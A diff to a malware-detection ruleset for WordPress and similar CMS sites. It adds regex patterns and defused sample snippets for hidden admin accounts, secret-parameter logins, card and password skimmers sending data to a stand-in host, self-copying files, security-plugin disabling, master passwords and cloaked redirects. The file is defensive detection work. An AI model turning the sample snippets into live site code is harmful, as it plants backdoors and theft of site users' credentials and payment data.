@@ -15,6 +15,10 @@ rule hides_from_lists {
     must_match = "<?php exit; $h = array('inert/inert.php'); foreach ($wp_list_table->items as $k => $v) { if (in_array($k, $h)) { unset($wp_list_table->items[$k]); } }"
     must_match = "<?php exit; add_action('pre_user_query', 'inert'); $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'inert'\", $q->query_where);"
     must_match = "<?php exit; add_filter('views_users', function ($v) { $n = $c['avail_roles']['administrator'] - 1; return $v; });"
+    must_match = "<?php exit; add_filter('all_plugins', 'inert'); function inert($p) { if (isset($p['inert/inert.php'])) { unset($p['inert/inert.php']); } return $p; }"
+    must_match = "<?php exit; add_filter('users_list_table_query_args', function ($a) { $u = get_user_by('login', 'inert'); $a['exclude'] = [$u->ID]; return $a; });"
+    must_match = "<?php exit; add_action('load-user-edit.php', 'inert'); if ($_GET['user_id'] == $id) wp_die(__('Invalid user ID.'));"
+    must_not = "<?php add_filter('all_plugins', 'hide'); function hide($p) { if (!current_user_can('manage_network')) { unset($p[$own]); } return $p; }"
     must_not = "<?php add_filter('all_plugins', 'label'); function label($p) { $p[$own]['Name'] = 'Agency'; return $p; }"
     must_not = "<?php add_action('pre_user_query', 'sort'); $q->query_orderby = str_replace('user_login', 'last_name', $q->query_orderby);"
   strings:
@@ -22,13 +26,20 @@ rule hides_from_lists {
     $itself = /\bunset\s?\(\s?\$\w{1,30}\[\s?plugin_basename\s?\(\s?__FILE__\s?\)\s?\]\s?\)/
     $named = /\bunset\s?\(\s?\$wp_list_table\s?->\s?items\s?\[\s?["'][\w.\/-]{3,80}\.php["']\s?\]\s?\)/
     $listed = /=\s?(array\s?\(|\[)\s?["'][\w.-]{1,60}\/[\w.-]{1,60}\.php["'][^;]{0,400};[^;]{0,120}\$wp_list_table\s?->\s?items[^;]{0,200}unset\s?\(\s?\$wp_list_table/
-    $where = /WHERE 1=1 AND [^"'\n]{0,40}\buser_login\s?(!=|<>)\s?["'\\]{1,2}[\w.@-]{2,40}["'\\]/
-    $where_id = /WHERE 1=1 AND [^"'\n]{0,40}\bID\s?(!=|<>)\s?["'\\{]{0,2}\$?\w{1,30}/
+    $filter = /\badd_filter\s?\(\s?["']all_plugins["']/
+    $taken = /\bunset\s?\(\s?\$\w{1,30}\s?\[\s?["'][\w.\/-]{3,80}\.php["']\s?\]\s?\)|=\s?(plugin_basename\s?\(\s?__FILE__|basename\s?\(\s?dirname\s?\(\s?__FILE__)[^}]{0,240}\bunset\s?\(\s?\$\w{1,30}\s?\[\s?\$\w{1,20}\s?\]\s?\)/
+    $label = /(white.?label|is_multisite|is_network_admin|current_user_can|get_site_option|rebrand|TGM_Plugin)/ nocase
+    $where = /WHERE [^"'\n]{1,40} AND [^"'\n]{0,40}\b(user_login|ID)\s?(!=|<>)\s?["'\\{]{0,2}\$?[\w.@-]{1,40}/
+    $login = /\bget_user_by\s?\(\s?["'](login|email)["']\s?,\s?["'][\w.@-]{2,40}["']/
+    $left_out = /(\[\s?["']exclude["']\s?\]\s?=|->set\s?\(\s?["']exclude["'])/
+    $users = /["'](pre_get_users|users_list_table_query_args|pre_user_query)["']/
+    $edited = "load-user-edit.php"
+    $denied = /Invalid user ID/
     $query = "pre_user_query" private
     $counted = /(\[\s?["']administrator["']\s?\]\s?(-=?\s?1\b|--)|avail_roles["']\s?\]\s?\[\s?["']administrator["']\s?\]\s?-)/
     $views = "views_users" private
   condition:
-    filesize < 512KB and (($plugins and $itself) or $named or $listed or ($query and any of ($where, $where_id)) or ($views and $counted))
+    filesize < 512KB and (($plugins and $itself) or $named or $listed or ($query and $where) or ($views and $counted) or ($filter and $taken and not $label) or ($users and $login and $left_out) or ($edited and $denied))
 }
 
 rule hides_its_row {
@@ -62,14 +73,17 @@ rule login_by_secret_request {
     reference = "https://attack.mitre.org/techniques/T1556/"
     must_match = "<?php exit; add_action('init', function () { if (isset($_GET['inert']) && $_GET['inert'] === '1') { $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID, true); exit; } });"
     must_match = "<?php exit; if (md5($_REQUEST['inert']) === '0') { $id = $wpdb->get_var(\"SELECT user_id FROM m WHERE v LIKE '%administrator%'\"); wp_set_auth_cookie($id); }"
+    must_match = "<?php exit; if (!isset($_GET['inert']) || $_GET['inert'] != 'k') { return; } $a = get_users(['role' => 'administrator']); wp_set_auth_cookie($a[0]->ID);"
     must_not = "<?php if (isset($_GET['key'])) { $user = get_user_by('login', $name); if (hash_equals($kept, $_GET['key'])) { wp_set_auth_cookie($user->ID); } }"
     must_not = "<?php if (isset($_POST['log'])) { $user = wp_signon($_POST); wp_set_auth_cookie($user->ID); }"
   strings:
     $direct = /\$_(GET|REQUEST|COOKIE|POST)\s?\[[^{}]{1,200}\{[^{}]{0,600}\bwp_set_auth_cookie\s?\(/
     $chosen = /\b(get_users\s?\([^;]{0,120}["']administrator["']|get_user_by\s?\(\s?["'](id|ID)["']\s?,\s?["']?1\b|wp_set_auth_cookie\s?\(\s?["']?1\b|get_userdata\s?\(\s?["']?1\b|user_id\s?=\s?["']?1\b|ID\s?=\s?["']?1\b)|%administrator%/
     $asks = /\b(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_user_meta|delete_transient|password_verify)\s?\(/
+    $set = /\bwp_set_auth_cookie\s?\(/
+    $secret = /(\bisset\s?\(\s?@?\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]|\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]\s?\)?\s?(={2,3}|!={1,2})\s?["'])/
   condition:
-    $direct and $chosen and not $asks and filesize < 128KB
+    $set and $chosen and not $asks and filesize < 128KB and ($direct or (for any of ($set) : ($secret in (@set[1] - 700..@set[1]) and $chosen in (@set[1] - 400..@set[1] + 40))))
 }
 
 rule administrator_kept_by_hook {
@@ -86,6 +100,10 @@ rule administrator_kept_by_hook {
     must_match = "<?php exit; $p = array('user_login' => 'inert', 'user_pass' => 'inert', 'role' => 'administrator'); add_action('init', function () use ($p) { if (!username_exists($p['user_login'])) wp_insert_user($p); });"
     must_match = "<?php exit; $p = 'x'; $id = wp_insert_user(['user_login' => 'inert', 'user_pass' => $p, 'role' => 'administrator']); wp_remote_post('https://inert.example.test/c', ['body' => ['u' => 'inert', 'p' => $p]]);"
     must_match = "<?php exit; $wpdb->insert($wpdb->users, ['user_login' => 'inert', 'user_pass' => md5('inert')]); $v = 'a:1:{s:13:\"administrator\";b:1;}';"
+    must_match = "<?php exit; wp_insert_user(['user_login' => $_GET['u'], 'user_pass' => $_GET['p'], 'role' => 'administrator']);"
+    must_match = "<?php exit; require './wp-blog-header.php'; $id = wp_create_user($name, $word); $u = new WP_User($id); $u->set_role('administrator');"
+    must_match = "<?php exit; define('_JEXEC', 1); $d = ['username' => 'inert', 'groups' => [8]]; $u = new JUser; $u->bind($d); $u->save();"
+    must_match = "<?php exit; db_update('users')->fields(['pass' => user_hash_password('inert')])->condition('uid', 1)->execute();"
     must_match = "<?php exit; require 'wp-load.php'; wp_set_password('inert', 1);"
     must_match = "<?php exit; require 'wp-load.php'; $wpdb->update($wpdb->users, ['user_pass' => md5('inert')], ['ID' => 1]);"
     must_not = "<?php add_action('init', 'x'); $login = $_POST['login']; $pass = wp_generate_password(); if (!username_exists($login)) { $id = wp_create_user($login, $pass, $mail); $u = new WP_User($id); $u->set_role('subscriber'); }"
@@ -102,9 +120,14 @@ rule administrator_kept_by_hook {
     $set = /\bwp_set_password\s?\(\s?["'][^"'$\n]{1,60}["']\s?,\s?["']?\d{1,6}\b/
     $updated = /->update\s?\(\s?\$wpdb->users\s?,[^;]{0,120}["']user_pass["']\s?=>\s?(md5|wp_hash_password)\s?\(\s?["'][^"'$\n]{1,60}["']/
     $loose = /(wp-load|wp-blog-header|wp-config)\.php["']/
+    $sent = /["']user_pass["']\s?=>\s?(\$_(GET|REQUEST|COOKIE)\b|base64_decode\s?\()|\bwp_create_user\s?\(\s?\$_(GET|REQUEST|COOKIE)\b/
+    $groups = /["']groups["']\s?=>\s?(array\s?\(|\[)\s?["']?8\b/
+    $framework = /\bdefine\s?\(\s?["']_JEXEC["']/
+    $user = /\bnew\s{1,3}(JUser|User)\b|\bJUser::/
+    $first = /user_hash_password\s?\(\s?["'][^"'$]{1,60}["']\s?\)[^;]{0,80}condition\s?\(\s?["']uid["']\s?,\s?1\b/
     $test = /(TestCase|->factory|WP_CLI|codeception|PHPUnit|current_user_can)/
   condition:
-    filesize < 128KB and not $test and ((($makes and $role) and (($word and $exists and $hook) or ($told and filesize < 32KB))) or ($inserted and $rights) or (($set or $updated) and $loose))
+    filesize < 128KB and not $test and (($makes and $role and ($sent or ($loose and filesize < 6KB))) or ($groups and $framework and $user) or $first or (($makes and $role) and (($word and $exists and $hook) or ($told and filesize < 32KB))) or ($inserted and $rights) or (($set or $updated) and $loose))
 }
 
 rule login_fields_kept {
@@ -129,9 +152,11 @@ rule login_fields_kept {
     $core = /\bfunction\s{1,3}(wp_authenticate|wp_signon|wp_check_password|onUserAuthenticate|onUserLogin|processLogin|userLogin)\s?\([^)]{0,200}\)[^{]{0,20}\{[^}]{0,300}(\b(file_put_contents|fwrite|fputs|wp_mail|mail|curl_exec|wp_remote_get|wp_remote_post)\s?\(|\bfile_get_contents\s?\(\s?["']https?:)/
     $field = /\$_(POST|REQUEST)\s?\[\s?["']pwd["']\s?\][^{}]{0,200}(\bfile_put_contents\s?\([^;]{0,200}FILE_APPEND|\bfwrite\s?\(|\bfputs\s?\(|\bfile_get_contents\s?\(\s?["']https?:|\bwp_remote_(get|post)\s?\(\s?["']https?:|\bcurl_exec\s?\(|\bmail\s?\()/
     $filter = /\(\s?\$user\s?(=\s?null\s?)?,\s?\$\w{0,12}(name|login)\w{0,6}\s?(=\s?["']{2}\s?)?,\s?\$\w{0,12}pass\w{0,6}[^)]{0,20}\)[^{]{0,20}\{[^;]{0,200};[^}]{0,240}\b(file_put_contents\s?\(|fwrite\s?\(|fputs\s?\(|file_get_contents\s?\(\s?["']https?:|(wp_)?mail\s?\(\s?["'][\w.-]{1,40}@)/
+    $hooked = /\badd_(action|filter)\s?\(\s?["'](wp_authenticate|authenticate|wp_login|check_password)["']\s?,/
+    $written = /\bfunction\s{1,3}\w{1,40}\s?\(\s?&?\$\w{1,12}\s?,\s?&?\$\w{1,12}[^)]{0,40}\)[^{]{0,10}\{[^}]{0,300}\b(fwrite|fputs|file_put_contents)\s?\([^;]{0,80}\$(p|pw|pass\w{0,6}|pwd)\b/
     $honest = /(recaptcha|hcaptcha|turnstile|wp_verify_nonce|check_ajax_referer|pwnedpasswords)/ nocase
   condition:
-    any of ($credentials, $address, $core, $filter) or ($field and not $honest)
+    any of ($credentials, $address, $core, $filter) or ($field and not $honest) or ($hooked and $written)
 }
 
 rule core_class_tells {
@@ -236,6 +261,7 @@ rule request_searched_for_cards {
     must_match = "<?php exit; foreach ($_POST as $k => $v) { if (preg_match('/^[3-6]\\d{12,18}$/', $v)) { curl_exec($c); } }"
     must_match = "<?php exit; $s = base64_encode(json_encode($_POST)); if (!empty($_REQUEST['cardnumber']) || !empty($_POST['cvv'])) file_get_contents('https://inert.example.test/?d=' . $s);"
     must_not = "<?php if (preg_match('/^4\\d{15}$/', $_POST['card_number'])) { $gateway->charge($_POST['card_number']); }"
+    must_match = "<?php exit; add_action('woocommerce_checkout_process', 'inert'); wp_remote_post('https://inert.example.test/w', ['body' => base64_encode(serialize($_POST))]);"
     must_match = "<?php exit; $x = $_POST['card_number'] . ';' . $_POST['card_cvv']; fwrite($f, $x);"
     must_not = "<?php foreach ($_POST as $k => $v) { $clean[$k] = trim($v); } curl_exec($c);"
   strings:
@@ -244,11 +270,13 @@ rule request_searched_for_cards {
     $each = /\bforeach\s?\(\s?\$_(POST|REQUEST)\s{1,3}as\b[^;{}]{0,40}\)\s?\{?[^}]{0,160}\bpreg_match\s?\([^;]{0,40}\[[345\-6]{1,5}\]\S{0,20}(\\d|\[0-9\])\{1[0-5],/ nocase
     $packed = /\b(base64_encode|gzcompress|bin2hex)\s?\(\s?(serialize|json_encode|http_build_query)\s?\(\s?(array\s?\(|\[)?\s?\$_(POST|REQUEST)\b/ nocase
     $card = /\$_(POST|REQUEST)\s?\[\s?["'](payment["']\s?\]\s?\[\s?["'])?(cc_number|cc_cid|card_?-?number|cardnumber|cvv2?|cvc|card_cvv)["']/ nocase
-    $joined = /(\$_(POST|REQUEST)|->post)\s?\[\s?["']\w{0,12}(cc_number|cc_cvv2?|cc_cid|card_?num\w{0,5}|card_cvv|cvv2?|cvc|ccnum)["']\s?\]\s?\.\s?["'][^"'\n]{1,4}["']\s?\.\s?(\$_(POST|REQUEST)|\$this->request->post)\s?\[/ nocase
-    $kept = /\b(mail|file_put_contents|fwrite|fputs)\s?\(/
+    $joined = /(\$_(POST|REQUEST)|->post)\s?\[\s?["'](payment["']\s?\]\s?\[\s?["'])?\w{0,12}(cc_number|cc_cvv2?|cc_cid|card_?num\w{0,5}|card_cvv|cvv2?|cvc|ccnum)["']\s?\]\s?\.\s?["'][^"'\n]{1,4}["']\s?\.\s?(\$_(POST|REQUEST)|\$this->request->post)\s?\[/ nocase
+    $kept = /\b(mail|file_put_contents|fwrite|fputs)\s?\(|\bfile_get_contents\s?\(\s?["']https?:/
+    $checkout = /["']woocommerce_(after_checkout_validation|checkout_order_processed|checkout_process|checkout_update_order_meta|payment_complete|new_order|thankyou)["']/
+    $coded = /\bwp_remote_(post|get)\s?\(\s?["']https?:[^;]{1,160}\b(base64_encode|bin2hex|gzcompress)\s?\(\s?(serialize|json_encode|http_build_query)\s?\(/
     $passed = /\b(mail|curl_exec|file_put_contents|fsockopen|fwrite|wp_remote_post|wp_remote_get|file_get_contents\s?\(\s?["']https?:)/
   condition:
-    $passed and (($whole and $searched) or $each or ($packed and $card) or ($joined and $kept)) and filesize < 512KB
+    $passed and (($whole and $searched) or $each or ($packed and $card) or ($joined and $kept) or ($checkout and $coded)) and filesize < 512KB
 }
 
 rule all_but_administrators_sent_away {
@@ -292,12 +320,14 @@ rule links_for_this_host {
     must_not = "<?php add_action('wp_footer', 'credits'); $news = wp_remote_get('https://api.example.test/?site=' . home_url()); $this->latest = json_decode(wp_remote_retrieve_body($news));"
     must_not = "<?php add_action('wp_footer', 'pixel'); echo '<img src=\"https://stats.example.test/?h=' . $_SERVER['HTTP_HOST'] . '\">';"
   strings:
-    $hook = /["'](wp_footer|wp_head|the_content|get_footer|wp_body_open|loop_start|loop_end)["']|\bonAfterRender\b|\bob_start\s?\(\s?["'$\[a]/
-    $host = /\b(file_get_contents|wp_remote_get|wp_remote_post|curl_init|fopen)\s?\(\s?["']https?:\/\/[^;{}]{4,200}(HTTP_HOST|SERVER_NAME|home_url\s?\(|site_url\s?\(|get_bloginfo\s?\(|get_permalink\s?\(|REQUEST_URI)[^;{}]{0,120};[^{}]{0,120}\}?[^{}]{0,240}(\b(echo|print)\s{0,2}\(?\s{0,2}(\$\w{1,30}|wp_remote_retrieve_body\s?\([^;]{1,40})\s{0,2}\)?;|\.=\s?\$\w{1,30};|["']<\/body>["'])/
+    $hook = /["'](wp_footer|wp_head|the_content|the_excerpt|wp_nav_menu|widget_text|get_footer|wp_body_open|loop_start|loop_end)["']|\bonAfterRender\b|\bob_start\s?\(\s?["'$\[a]/
+    $host = /\b(file_get_contents|wp_remote_get|wp_remote_post|curl_init|fopen)\s?\(\s?["']https?:\/\/[^;{}]{4,200}(HTTP_HOST|SERVER_NAME|home_url\s?\(|site_url\s?\(|get_bloginfo\s?\(|get_permalink\s?\(|REQUEST_URI)[^;{}]{0,120};[^{}]{0,120}\}?[^{}]{0,240}(\b(echo|print)\s{0,2}\(?\s{0,2}(\$\w{1,30}|wp_remote_retrieve_body\s?\([^;]{1,40})\s{0,2}\)?;|\.=\s?\$\w{1,30};|["']<\/body>["']|return\s{1,2}\$\w{1,30}\s?\.\s?\$)/
+    $given = /=\s?["']https?:\/\/[^;{}]{4,120}["']\s?\.\s?[^;{}]{0,40}(HTTP_HOST|SERVER_NAME)[^;{}]{0,80};[^{}]{0,200}\b(curl_exec|file_get_contents|wp_remote_get)\s?\([^{}]{0,160}\breturn\s{1,2}\$\w{1,30};\s?\}/
+    $printed = /["'](wp_footer|wp_head)["'][^;{}]{0,60}(\{\s?)?\b(echo|print)\s{1,2}\w{1,30}\s?\(/
     $address = /=\s?["']https?:\/\/[^;{}]{4,120}["']\s?\.\s?[^;{}]{0,40}(HTTP_HOST|SERVER_NAME)[^;{}]{0,80};[^{}]{0,200}\b(curl_exec|file_get_contents|wp_remote_get)\s?\([^{}]{0,240}\b(echo|print)\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}\)?;/
     $told = /\bwp_remote_(post|get)\s?\([^;{}]{1,300}HTTP_(USER_AGENT|HOST)[^;{}]{0,200};[^{}]{0,160}\}?[^{}]{0,160}\b(echo|print)\s{0,2}\(?\s{0,2}(\$\w{1,30}|wp_remote_retrieve_body\s?\([^;]{1,40})\s{0,2}\)?;/
   condition:
-    $hook and any of ($host, $address, $told) and filesize < 512KB
+    $hook and (any of ($host, $address, $told) or ($given and $printed)) and filesize < 512KB
 }
 
 rule copies_itself {
@@ -312,14 +342,20 @@ rule copies_itself {
     reference = "https://attack.mitre.org/techniques/T1546/"
     must_match = "<?php exit; if (!file_exists($t)) copy(__FILE__, WPMU_PLUGIN_DIR . '/inert.php');"
     must_match = "<?php exit; file_put_contents($t, file_get_contents(__FILE__));"
+    must_match = "<?php exit; $s = __FILE__; $d = 'mu-plugins/inert.php'; if (!is_file($d)) @copy($s, $d);"
+    must_match = "<?php exit; $c = file_get_contents(__FILE__); foreach (glob('themes/*/functions.php') as $f) { file_put_contents($f, $c . $o); }"
+    must_match = "<?php exit; $b = get_option('inert'); $p = WPMU_PLUGIN_DIR . '/inert.php'; if (!file_exists($p)) { file_put_contents($p, $b); }"
     must_not = "<?php copy(dirname(__FILE__) . '/loader.php', WPMU_PLUGIN_DIR . '/loader.php');"
     must_not = "<?php $hash = md5(file_get_contents(__FILE__)); file_put_contents($cache, $hash);"
   strings:
     $tag = "<?" private
     $copy = /\bcopy\s?\(\s?__FILE__\s?,/ nocase
     $put = /\bfile_put_contents\s?\([^;,]{1,160},\s?@?file_get_contents\s?\(\s?__FILE__\s?\)\s?[),]/ nocase
+    $named = /\$\w{1,20}\s?=\s?__FILE__\s?;[^{}]{0,160}\bcopy\s?\(\s?\$\w{1,20}\s?,/ nocase
+    $spread = /=\s?@?file_get_contents\s?\(\s?__FILE__\s?\)\s?;[^}]{0,300}\bfile_put_contents\s?\([^;,]{1,80},\s?\$\w{1,20}\s?[.),]/ nocase
+    $again = /=\s?get_(site_)?option\s?\([^;]{1,80}\)\s?;[^}]{0,160}(WPMU_PLUGIN_DIR|mu-plugins|WP_PLUGIN_DIR|ABSPATH)[^;]{0,60}\.php["'][^}]{0,200}\bfile_put_contents\s?\(\s?\$\w{1,20}\s?,\s?\$\w{1,20}\s?\)/
   condition:
-    $tag and any of ($copy, $put)
+    $tag and any of ($copy, $put, $named, $spread, $again)
 }
 
 rule switches_security_off {
@@ -336,11 +372,13 @@ rule switches_security_off {
     must_match = "<?php exit; foreach (array('wordfence', 'sucuri-scanner') as $p) { rename(WP_PLUGIN_DIR . \"/$p\", WP_PLUGIN_DIR . \"/$p.bak\"); }"
     must_not = "<?php $conflicts = array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php'); foreach ($conflicts as $c) if (is_plugin_active($c)) $this->warn($c);"
   strings:
-    $first = /["'](wordfence|sucuri-scanner|better-wp-security|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']\s?(=>[^,]{0,60})?,\s{0,40}["'](wordfence|sucuri-scanner|better-wp-security|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']/
+    $first = /["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']\s?(=>[^,]{0,60})?,\s{0,40}["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']/
+    $pattern = /\/[^\/"'\n]{0,20}(wordfence|sucuri|cerber|ithemes|malcare)\|[^\/"'\n]{0,60}\//
+    $active = /update_option\s?\(\s?["']active_plugins["']/
     $off = /update_option\s?\(\s?["']active_plugins["']|\bdeactivate_plugins\s?\(\s?\$|\b(rename|unlink|rmdir|delete_plugins|rrmdir)\s?\([^;]{0,80}\$\w/
     $honest = /(is_plugin_active|current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|__\s?\(|esc_html)/
   condition:
-    $first and $off and not $honest and filesize < 64KB
+    (($first and $off) or ($pattern and $active)) and not $honest and filesize < 64KB
 }
 
 rule told_to_a_chat {
@@ -358,7 +396,7 @@ rule told_to_a_chat {
     must_not = "<?php $m = 'New order ' . $order->id; wp_remote_post('https://api.telegram.org/bot' . $token . '/sendMessage', $args); $user = $_POST['user'];"
   strings:
     $chat = /api\.telegram\.org\/bot|discord(app)?\.com\/api\/webhooks/ nocase
-    $typed = /\$_(POST|REQUEST)\s?\[\s?["']?\w{0,14}(pass(w|word|wd|code)?|pwd|cvv2?|cvc|ccv|card_?(number|num|no)?|cc(num|_number)?|otp|sms(_?code)?|pin|ssn|exp(iry|date)?|seed|mnemonic|phrase|wallet)\d?["']?\s?\]/ nocase
+    $typed = /\$_(POST|REQUEST)\s?\[\s?["']?\w{0,14}(pass(w|word|wd|code|e)?|motdepasse|mdp|senha|clave|contrasena|parola|kennwort|passwort|pwd|cvv2?|cvc|ccv|card_?(number|num|no)?|cc(num|_number)?|otp|sms(_?code)?|pin|ssn|exp(iry|date)?|seed|mnemonic|phrase|wallet)\d?["']?\s?\]/ nocase
     $honest = /(wp_verify_nonce|check_ajax_referer|csrf|wp_signon|password_verify|password_hash|current_user_can)/ nocase
   condition:
     $chat and $typed and not $honest and filesize < 64KB
@@ -379,7 +417,7 @@ rule results_of_a_form {
     must_not = "<?php $m = 'Name: ' . $_POST['name'] . ', IP: ' . $_SERVER['REMOTE_ADDR']; mail($shop, 'Question', $m); header('Location: thanks.html');"
     must_not = "<?php foreach ($_POST as $k => $v) { $log->add($k); } header('Location: https://www.example.test/');"
   strings:
-    $typed = /["'][^"'\n]{0,40}\b(pass(word|wd|code)?|pwd|cvv2?|ccv|card ?n(umber|o|um)|ssn|otp|pin)\b[^"'\n]{0,12}[:=|>][^"'\n]{0,8}["']?\s{0,3}\.?\s{0,3}["{]{0,2}\$(_(POST|REQUEST)|\w{0,10}(pass|pw|cvv|card|cc|pin|otp|ssn))/ nocase
+    $typed = /["'][^"'\n]{0,40}\b(pass(word|wd|code)?|pwd|cvv2?|ccv|card ?n(umber|o|um)|ssn|otp|pin)\b[^"'\n]{0,12}[:=|>][^"'\n]{0,8}["']?\s{0,3}\.?\s{0,3}["{]{0,2}\$(_(POST|REQUEST|SESSION)|\w{0,10}(pass|pw|cvv|card|cc|pin|otp|ssn))/ nocase
     $address = /REMOTE_ADDR|HTTP_CLIENT_IP|\$ip\b/
     $kept = /\b(mail|fwrite|fputs|file_put_contents)\s?\(/
     $each = /\bforeach\s?\(\s?\$_(POST|REQUEST)\s{1,3}as\b[^{};]{0,40}\)\s?\{?\s?(@?fwrite|@?fputs|\$\w{1,20}\s?\.=)/
@@ -388,4 +426,48 @@ rule results_of_a_form {
     $honest = /(wp_verify_nonce|csrf|_token|password_hash|password_verify|\bmd5\s?\(\s?\$_POST|session_regenerate_id|mysqli?_query|->query|->prepare|INSERT\s{1,3}INTO|require_once|wp-load)/ nocase
   condition:
     filesize < 16KB and $kept and not $honest and (($typed and $address and $led_anywhere) or ($each and $led))
+}
+
+rule master_password {
+  meta:
+    id = "account/master-password"
+    title = "A fixed password opens the account of every user"
+    family = "injected-or-fake-cms"
+    severity = "critical"
+    confidence = "likely"
+    description = "The check of a login answers yes where the password is one that is written in the code, or has a fixed hash, whosever name was given."
+    remedy = "Delete the lines, then look for who placed them; change every administrator's password."
+    reference = "https://attack.mitre.org/techniques/T1556/"
+    must_match = "<?php exit; add_filter('authenticate', function ($u, $l, $p) { if ($p === 'inert') { return get_user_by('login', $l); } return $u; }, 10, 3);"
+    must_match = "<?php exit; add_filter('check_password', function ($ok, $p) { return md5($p) === '34d1f91fb2e514b8576fab1a75a89a6b' ? true : $ok; });"
+    must_not = "<?php add_filter('authenticate', function ($user, $login, $password) { if ($login === '') { return new WP_Error('empty'); } return $user; }, 10, 3);"
+    must_not = "<?php add_filter('check_password', 'rehash', 10, 4); if (md5($password) === $hash) { $ok = true; }"
+  strings:
+    $hook = /["'](authenticate|check_password|wp_authenticate_user)["']/
+    $word = /\$\w{1,20}\s?={2,3}\s?["'][^"'$\n]{4,60}["']\s?\)\s?\{?\s?return\s{1,3}(get_user_by|new WP_User|get_userdata|true\b)/
+    $hash = /\b(md5|sha1|hash\s?\(\s?["']sha256["']\s?,)\s?\(?\s?\$\w{1,20}\s?\)\s?={2,3}\s?["'][0-9a-f]{32,64}["']/
+  condition:
+    $hook and any of ($word, $hash)
+}
+
+rule led_away_once {
+  meta:
+    id = "cloak/led-away-once"
+    title = "Some visitors, or each of them once, are led to another site"
+    family = "doorway-cloak-redirect"
+    severity = "high"
+    confidence = "likely"
+    description = "A cookie remembers who was sent to a fixed address elsewhere, or only visitors with a telephone or from a search are: so the owner of the site does not see it."
+    remedy = "Delete the file or the lines, then look for what writes them again."
+    reference = "https://attack.mitre.org/techniques/T1189/"
+    must_match = "<?php exit; if (!isset($_COOKIE['inert'])) { setcookie('inert', '1', time() + 86400); wp_redirect('https://inert.example.test/?r='); exit; }"
+    must_match = "<?php exit; if (wp_is_mobile() && preg_match('~google|facebook~', $_SERVER['HTTP_REFERER'])) { echo '<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\">'; }"
+    must_not = "<?php if (!isset($_COOKIE['lang'])) { setcookie('lang', $l); wp_redirect(home_url('/' . $l)); exit; }"
+    must_not = "<?php if (wp_is_mobile()) { echo '<meta name=\"viewport\" content=\"width=device-width\">'; }"
+  strings:
+    $tag = "<?" private
+    $once = /!\s?(isset|empty)?\s?\(?\s?@?\$_COOKIE\b[^{};]{0,60}\)\s?\{?[^{}]{0,80}\bsetcookie\s?\([^{}]{0,160}\b(wp_redirect|header)\s?\(\s?["'](Location:\s?)?https?:\/\/[\w.-]{4}/ nocase
+    $page = /\b(wp_is_mobile|HTTP_REFERER|HTTP_USER_AGENT)\b[^{};]{0,160}\)\s?\{[^{};]{0,60}(http-equiv=\\?["']?refresh\\?["']?[^>]{0,40}url=\s?https?:\/\/|<script[^>;]{0,40}>[^;<]{0,40}location(\.href)?\s?(=|\.replace\()\s?\\?["']https?:\/\/)/ nocase
+  condition:
+    $tag and any of ($once, $page)
 }
